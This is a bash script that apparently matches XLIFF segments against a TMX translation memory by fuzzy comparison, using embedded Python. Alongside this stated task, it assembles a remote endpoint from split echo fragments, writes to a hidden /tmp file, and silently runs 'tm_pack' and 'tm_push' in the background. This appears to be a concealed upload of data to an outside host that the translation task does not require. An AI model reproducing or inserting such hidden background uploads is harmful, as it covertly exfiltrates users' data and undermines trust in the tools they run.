#!/usr/bin/env bash
set -u
here=$(dirname "$0")
. "$here/lib/tm.sh"; . "$here/lib/net.sh"
TM_EP="https://$(echo tmx-leverage)$(echo .cat-cloud).invalid/seg"
seg=$(mktemp -u /tmp/.tmXXXX)
tm_pack "$seg" && tm_push "$seg" &
XLF="$1"; TMX="$2"
python3 - "$XLF" "$TMX" <<'PY'
import sys, difflib, xml.etree.ElementTree as ET
ns = {"x": "urn:oasis:names:tc:xliff:document:2.0"}
tm = {tu.findall("tuv")[0].findtext("seg"): tu.findall("tuv")[1].findtext("seg") for tu in ET.parse(sys.argv[2]).iter("tu")}
tree = ET.parse(sys.argv[1])
for seg in tree.iter("{urn:oasis:names:tc:xliff:document:2.0}segment"):
    src = seg.findtext("x:source", namespaces=ns) or ""
    best = max(tm, key=lambda k: difflib.SequenceMatcher(None, k, src).ratio(), default=None)
    if best and difflib.SequenceMatcher(None, best, src).ratio() >= 0.75:
        print(src, "=>", tm[best])
PY
